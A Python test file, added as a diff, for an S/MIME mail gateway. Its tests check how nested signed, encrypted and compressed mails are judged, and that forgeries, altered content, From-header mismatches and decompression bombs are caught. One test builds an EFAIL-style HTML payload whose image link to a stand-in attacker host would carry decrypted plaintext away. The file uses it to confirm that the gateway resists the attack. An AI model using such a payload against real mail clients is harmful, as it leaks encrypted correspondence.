@@ -1,0 +1,371 @@
+"""Mails opened and judged as a whole. Truth: mails put together layer by layer, and mails made by openssl."""
+
+import subprocess
+from datetime import timedelta
+
+import pytest
+
+from gateway.cms.algorithms import ContentCipher
+from gateway.errors import GatewayError, Reason
+from gateway.mime.entity import Limits
+from gateway.model.verdict import Status, Trust
+from gateway.pki.judge import Judge
+from gateway.pki.trust import TrustSet
+from gateway.smime.layers import LAYERS_MAX, OpenLimits
+from gateway.smime.open import open_cms, open_mail
+from tests.support import forge
+from tests.support.pki import ALGORITHMS_ENCRYPT, NOW, CertificateKey, get_pki
+from tests.support.sealed import (
+    ANNA,
+    BANK,
+    TEXT,
+    anna,
+    box,
+    cms,
+    compressed,
+    enveloped,
+    judge,
+    message,
+    multipart,
+    signature,
+    signed,
+    stamper,
+)
+
+GCM = ContentCipher.AES256_GCM
+
+
+def opened(mail, *, keys=None, by=None, at=NOW, limits=None):
+    return open_mail(mail, [CertificateKey(box())] if keys is None else keys, by or judge(), at,
+                     **({"limits": limits} if limits else {}))
+
+
+def told(mail, **options):
+    verdicts = opened(mail, **options).verdicts
+    return verdicts.verdict, verdicts.why
+
+
+def types(verdicts):
+    return [layer.type for layer in verdicts.layers]
+
+
+# --- what is believed --------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("entity", "layers", "order", "integrity"), [
+    (lambda: signed(TEXT, anna()), ["signed"], "signed_only", None),
+    (lambda: signed(TEXT, anna(), opaque=True), ["signed"], "signed_only", None),
+    (lambda: enveloped(signed(TEXT, anna()), box()), ["enveloped", "signed"], "inside_encryption", "signed_inside"),
+    (lambda: enveloped(signed(TEXT, anna()), box(), cipher=GCM), ["auth_enveloped", "signed"], "inside_encryption",
+     "aead"),
+    (lambda: signed(enveloped(signed(TEXT, anna()), box()), anna()), ["signed", "enveloped", "signed"], "both",
+     "signed_inside"),
+    (lambda: enveloped(compressed(signed(TEXT, anna())), box()), ["enveloped", "compressed", "signed"],
+     "inside_encryption", "signed_inside"),
+    (lambda: signed(signed(TEXT, anna()), anna(), opaque=True), ["signed", "signed"], "signed_only", None)])
+def test_every_honest_nesting_is_trusted(entity, layers, order, integrity):
+    result = opened(message(entity()))
+    verdicts = result.verdicts
+    assert (verdicts.verdict, verdicts.why) == (Trust.TRUSTED, ())
+    assert types(verdicts) == [*layers, "plain"]
+    assert verdicts.signature.order == order
+    assert verdicts.signature.covers == "whole"
+    assert verdicts.decryption.integrity == integrity
+    assert result.signed is not None
+    assert result.signed.octets == TEXT
+    assert result.octets.endswith(TEXT.partition(b"\r\n\r\n")[2])
+    assert result.octets.startswith(b"From: Anna <anna@customer.example>\r\n")
+
+
+@pytest.mark.parametrize("algorithm", ALGORITHMS_ENCRYPT)
+@pytest.mark.parametrize("cipher", [ContentCipher.AES128_CBC, ContentCipher.AES256_CBC, ContentCipher.AES128_GCM, GCM])
+def test_every_key_and_cipher(algorithm, cipher):
+    mail = message(enveloped(signed(TEXT, anna()), box(algorithm), cipher=cipher))
+    assert told(mail, keys=[CertificateKey(box(algorithm))]) == (Trust.TRUSTED, ())
+
+
+def test_a_stamp_moves_the_judgement_to_its_own_time():
+    at = NOW - timedelta(days=3)
+    signer = opened(message(signed(TEXT, anna(), stamp=stamper(at)))).verdicts.signature.signers[0]
+    assert signer.timestamp.status is Status.VALID
+    assert signer.judged_at == at + timedelta(seconds=1)
+
+
+# --- what is not -------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("mail", "verdict", "why"), [
+    (lambda: message(TEXT), Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED]),
+    (lambda: message(signed(TEXT, anna())).replace(b"100 EUR", b"900 EUR"), Trust.NOT_TRUSTED,
+     [Reason.SIGNATURE_ALTERED]),
+    (lambda: message(signed(TEXT, anna()), from_="boss@bank.example"), Trust.NOT_TRUSTED, [Reason.FROM_MISMATCH]),
+    (lambda: message(signed(TEXT, anna()), from_=None), Trust.UNKNOWN, [Reason.FROM_MISSING]),
+    (lambda: message(signed(TEXT, anna()), extra=[b"From: Bert <bert@customer.example>"]), Trust.UNKNOWN,
+     [Reason.FROM_AMBIGUOUS]),
+    (lambda: message(signed(TEXT, anna()), from_="anna@customer.example>, <bert@customer.example"), Trust.UNKNOWN,
+     [Reason.FROM_AMBIGUOUS]),
+    (lambda: message(signed(TEXT, anna()), from_="bert@customer.example",
+                     extra=[b"Sender: anna@customer.example", b"Reply-To: anna@customer.example"]),
+     Trust.NOT_TRUSTED, [Reason.FROM_MISMATCH]),
+    (lambda: message(enveloped(TEXT, box())), Trust.UNKNOWN,
+     [Reason.SIGNATURE_NOT_SIGNED, Reason.DECRYPTION_NOT_AUTHENTICATED]),
+    (lambda: message(enveloped(TEXT, box(), cipher=GCM)), Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED]),
+    (lambda: message(signed(enveloped(TEXT, box()), anna())), Trust.UNKNOWN,
+     [Reason.SIGNATURE_OUTSIDE_ENCRYPTION, Reason.DECRYPTION_NOT_AUTHENTICATED]),
+    (lambda: message(enveloped(signed(TEXT, anna()), get_pki().recipient("p-256", email="else@x.example"))),
+     Trust.UNKNOWN, [Reason.SIGNATURE_NOT_SIGNED, Reason.DECRYPTION_NO_KEY])])
+def test_what_stands_against_it(mail, verdict, why):
+    result = opened(mail())
+    assert (result.verdicts.verdict, list(result.verdicts.why)) == (verdict, why)
+    assert result.signed is None or why in ([Reason.FROM_MISMATCH], [Reason.FROM_MISSING], [Reason.FROM_AMBIGUOUS])
+    if result.signed is not None:
+        assert not any(signer.matches_from for signer in result.signed.signers)
+
+
+def test_case_of_the_address_does_not_matter():
+    assert told(message(signed(TEXT, anna()), from_="ANNA@Customer.EXAMPLE")) == (Trust.TRUSTED, ())
+    kelvin = get_pki().signer("p-256", email="k@customer.example")
+    assert told(message(signed(TEXT, kelvin), from_="\N{KELVIN SIGN}@customer.example"))[0] is Trust.NOT_TRUSTED
+
+
+def test_without_roots_nothing_is_decided():
+    assert told(message(signed(TEXT, anna())), by=Judge(TrustSet())) == (
+        Trust.UNKNOWN, (Reason.PATH_TRUST_ANCHOR_MISSING,))
+
+
+def test_a_key_that_cannot_be_reached_is_for_later():
+    class Away:
+        certificate = box().certificate
+
+        def agree(self, peer):
+            raise GatewayError(Reason.KEY_UNAVAILABLE, "the HSM is away", retry=True)
+
+    with pytest.raises(GatewayError) as caught:
+        opened(message(enveloped(TEXT, box())), keys=[Away()])
+    assert caught.value.retry
+
+
+# --- whole and part ----------------------------------------------------------------------------------------------------
+
+
+def mixed(*parts):
+    lines = b"".join(b"--mixed\r\n" + part + b"\r\n" for part in parts)
+    return b'Content-Type: multipart/mixed; boundary="mixed"\r\n\r\n' + lines + b"--mixed--\r\n"
+
+
+def test_a_signature_beside_other_parts_covers_a_part():
+    mail = message(mixed(signed(TEXT, anna()), b"Content-Type: text/plain\r\n\r\nlist footer\r\n"))
+    result = opened(mail)
+    assert (result.verdicts.verdict, result.verdicts.why) == (Trust.UNKNOWN, (Reason.SIGNATURE_PART_ONLY,))
+    assert result.verdicts.signature.status is Status.VALID
+    assert result.verdicts.signature.covers == "part"
+    assert result.signed is None
+    assert result.octets is mail
+
+
+def test_a_false_signature_of_a_part_is_told_as_false():
+    mail = message(mixed(signed(TEXT, anna()).replace(b"100", b"900"), b"\r\nfooter\r\n"))
+    assert told(mail) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_ALTERED, Reason.SIGNATURE_PART_ONLY))
+
+
+def test_an_encrypted_part_is_never_decrypted():
+    """EFAIL: what stands beside it could carry the plaintext away."""
+    mail = message(mixed(b'Content-Type: text/html\r\n\r\n<img src="http://eve.example/?', enveloped(TEXT, box()),
+                         b'Content-Type: text/html\r\n\r\n">'))
+    calls = []
+
+    class Watched(CertificateKey):
+        def agree(self, peer_public):
+            calls.append(peer_public)
+            return super().agree(peer_public)
+
+    result = opened(mail, keys=[Watched(box())])
+    assert not calls
+    assert result.octets is mail
+    decryption = result.verdicts.decryption
+    assert (decryption.status, decryption.reason, decryption.covers) == ("failed", Reason.DECRYPTION_PART_ONLY, "part")
+    assert b"100 EUR" not in result.payload
+
+
+def test_a_forwarded_message_speaks_for_nobody_here():
+    inner = message(signed(TEXT, anna()))
+    mail = message(mixed(b"Content-Type: text/plain\r\n\r\nsee below\r\n", b"Content-Type: message/rfc822\r\n\r\n" + inner))
+    assert told(mail) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED,))
+
+
+def test_preamble_and_epilogue_reach_nobody():
+    entity = signed(TEXT, anna())
+    mail = message(entity.replace(b"This is an S/MIME signed message", b"Pay 900 EUR instead") + b"Pay 901 EUR instead\r\n")
+    result = opened(mail)
+    assert result.verdicts.verdict is Trust.TRUSTED
+    assert b"instead" not in result.octets
+    assert b"instead" not in result.signed.octets
+
+
+def test_a_multipart_signed_of_three_parts_is_a_forgery():
+    entity = signed(TEXT, anna())
+    boundary = entity.partition(b'boundary="')[2].partition(b'"')[0]
+    third = b"--" + boundary + b"\r\nContent-Type: text/plain\r\n\r\nPay 900\r\n--" + boundary + b"--\r\n"
+    mail = message(entity.replace(b"--" + boundary + b"--\r\n", third))
+    assert told(mail) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
+
+
+def test_a_content_inside_multipart_signed_is_invalid():
+    """Two contents, one shown and one signed (RFC 8551 3.5.3)."""
+    der = signature(TEXT, anna(), opaque=True)
+    assert told(message(multipart(TEXT, der))) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
+
+
+# --- however it is labelled, and when it is broken ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("old", "new"), [
+    (b"application/pkcs7-mime; smime-type=signed-data", b"application/x-pkcs7-mime"),
+    (b"application/pkcs7-mime; smime-type=signed-data", b"application/octet-stream"),
+    (b"smime-type=signed-data", b"smime-type=enveloped-data"),
+    (b"smime-type=signed-data", b"smime-type=certs-only")])
+def test_labels_decide_nothing(old, new):
+    entity = signed(TEXT, anna(), opaque=True)
+    assert old in entity
+    assert told(message(entity.replace(old, new))) == (Trust.TRUSTED, ())
+
+
+@pytest.mark.parametrize(("label", "status", "reason"), [
+    ("enveloped-data", "failed", Reason.DECRYPTION_FAILED), ("authEnveloped-data", "failed", Reason.DECRYPTION_FAILED)])
+@pytest.mark.parametrize("junk", [b"", b"0", b"0\x80", b"0\x03\x02\x01\x05", bytes(40)])
+def test_broken_envelopes_are_one_failure(label, status, reason, junk):
+    result = opened(message(cms(junk, label)))
+    assert (result.verdicts.decryption.status, result.verdicts.decryption.reason) == (status, reason)
+    assert result.verdicts.verdict is Trust.UNKNOWN
+    assert result.octets is result.original
+
+
+@pytest.mark.parametrize("junk", [b"", b"0", b"0\x80", b"0\x03\x02\x01\x05", bytes(40)])
+def test_broken_signatures_are_malformed_and_the_content_is_still_there(junk):
+    assert told(message(cms(junk, "signed-data"))) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
+    result = opened(message(multipart(TEXT, junk)))
+    assert (result.verdicts.verdict, result.verdicts.why) == (Trust.NOT_TRUSTED, (Reason.SIGNATURE_MALFORMED,))
+    assert b"100 EUR" in result.octets
+
+
+def test_certificates_only_are_no_signature():
+    der = forge.signed_data([], content=None, certificates=[anna().der])
+    assert told(message(cms(der, "certs-only"))) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED,))
+
+
+def test_truncated_anywhere_it_is_answered():
+    mail = message(enveloped(signed(TEXT, anna()), box()))
+    for end in range(0, len(mail), 97):
+        assert opened(mail[:end]).verdicts.verdict is not Trust.TRUSTED
+
+
+# --- bounds ------------------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("count", "trust"), [(LAYERS_MAX, Trust.TRUSTED), (LAYERS_MAX + 1, Trust.UNKNOWN)])
+def test_eight_layers_at_most(count, trust):
+    entity = TEXT
+    for _ in range(count - 1):
+        entity = compressed(entity)
+    verdict, why = told(message(signed(entity, anna())))
+    assert verdict is trust
+    assert (Reason.INPUT_LIMIT_EXCEEDED in why) is (trust is Trust.UNKNOWN)
+
+
+def test_compressed_content_is_bounded():
+    bomb = compressed(b"Content-Type: text/plain\r\n\r\n" + bytes(30_000_000))
+    assert told(message(bomb)) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED, Reason.INPUT_LIMIT_EXCEEDED))
+    small = compressed(TEXT)
+    assert told(message(small), limits=OpenLimits(octets_max=len(TEXT))) == (Trust.UNKNOWN, (Reason.SIGNATURE_NOT_SIGNED,))
+    assert told(message(small), limits=OpenLimits(octets_max=len(TEXT) - 1))[1][-1] is Reason.INPUT_LIMIT_EXCEEDED
+
+
+def test_bounds_inside_an_encryption_are_told_not_raised():
+    """Outside they are refused before anything is decrypted; inside, an error would tell a stranger something."""
+    deep = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (n, n) for n in range(30)) + TEXT
+    limits = OpenLimits(mime=Limits(depth_max=10))
+    result = opened(message(enveloped(deep, box())), limits=limits)
+    assert result.verdicts.decryption.status == "decrypted"
+    assert Reason.INPUT_LIMIT_EXCEEDED in result.verdicts.why
+    assert result.octets is result.original
+    with pytest.raises(GatewayError):
+        opened(message(deep), limits=limits)
+
+
+# --- what is shown -----------------------------------------------------------------------------------------------------
+
+
+def test_fields_inside_that_are_nobodys_stay_inside():
+    entity = b"From: boss@bank.example\r\nSealgate-Signature: trusted\r\nX-Spam: no\r\n" + TEXT
+    result = opened(message(signed(entity, anna())))
+    for name in (b"boss@bank", b"Sealgate", b"X-Spam"):
+        assert name not in result.octets
+    assert result.verdicts.headers.from_ == "Anna <anna@customer.example>"
+    assert not result.verdicts.headers.protected
+    assert result.signed.octets == entity
+
+
+def test_what_was_encrypted_is_made_carriable():
+    for body in (b"one\ntwo\n", b"nul \0 here\r\n", b"\rlone\r\n", b"\xff\xfe\r\n"):
+        entity = b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" + body
+        octets = opened(message(enveloped(entity, box()))).octets
+        assert b"\0" not in octets
+        assert octets.count(b"\n") == octets.count(b"\r\n") == octets.count(b"\r")
+
+
+def test_an_unsealed_mail_is_the_very_same_object():
+    mail = message(TEXT)
+    result = opened(mail)
+    assert result.octets is mail
+    assert not result.changed
+
+
+# --- a CMS object by itself --------------------------------------------------------------------------------------------
+
+
+def test_a_cms_object_claims_no_sender():
+    keys = [CertificateKey(box())]
+    result = open_cms(signature(TEXT, anna(), opaque=True), keys, judge(), NOW)
+    assert (result.verdicts.verdict, result.octets) == (Trust.TRUSTED, TEXT)
+    der = signature(TEXT, anna())
+    assert open_cms(der, keys, judge(), NOW, content=TEXT).verdicts.verdict is Trust.TRUSTED
+    assert open_cms(der, keys, judge(), NOW, content=TEXT + b"x").verdicts.verdict is Trust.NOT_TRUSTED
+    missing = open_cms(der, keys, judge(), NOW).verdicts
+    assert (missing.verdict, missing.why) == (Trust.UNKNOWN, (Reason.SIGNATURE_CONTENT_MISSING,))
+
+
+# --- made by openssl ---------------------------------------------------------------------------------------------------
+
+
+def openssl(*arguments, octets=None):
+    return subprocess.run(["openssl", "cms", *map(str, arguments)], input=octets, capture_output=True, check=True).stdout
+
+
+@pytest.mark.parametrize("algorithm", ["rsa-2048", "p-256", "p-384", "ed25519"])
+@pytest.mark.parametrize("form", [[], ["-nodetach"], ["-nodetach", "-stream"], ["-crlfeol"], ["-keyid"]])
+def test_mails_signed_by_openssl(tmp_path, algorithm, form):
+    person = anna(algorithm)
+    certificate, key, chain = person.write(tmp_path)
+    (tmp_path / "in").write_bytes(TEXT)
+    if algorithm == "ed25519":
+        form = [*form, "-md", "sha512"]
+    mail = openssl("-sign", "-in", tmp_path / "in", "-signer", certificate, "-inkey", key, "-certfile", chain, *form,
+                   "-from", ANNA, "-to", BANK, "-subject", "x")
+    assert told(mail) == (Trust.TRUSTED, ())
+
+
+@pytest.mark.parametrize("algorithm", ["rsa-2048", "p-256", "p-521"])  # openssl 3.5 does not write X25519 envelopes
+@pytest.mark.parametrize("form", [["-aes128"], ["-aes256", "-stream"], ["-aes-256-gcm"], ["-aes256", "-keyid"]])
+def test_mails_encrypted_by_openssl(tmp_path, algorithm, form):
+    certificate, _, _ = box(algorithm).write(tmp_path)
+    mail = openssl("-encrypt", *form, "-from", ANNA, "-to", BANK, "-subject", "x", certificate,
+                   octets=signed(TEXT, anna()))
+    assert told(mail, keys=[CertificateKey(box(algorithm))]) == (Trust.TRUSTED, ())
+
+
+def test_weak_content_ciphers_of_openssl_are_one_failure_too(tmp_path):
+    certificate, _, _ = box("rsa-2048").write(tmp_path)
+    mail = openssl("-encrypt", "-des3", "-from", ANNA, "-to", BANK, "-subject", "x", certificate, octets=TEXT)
+    result = opened(mail, keys=[CertificateKey(box("rsa-2048"))])
+    assert (result.verdicts.decryption.status, result.verdicts.decryption.reason) == (
+        "failed", Reason.DECRYPTION_FAILED)
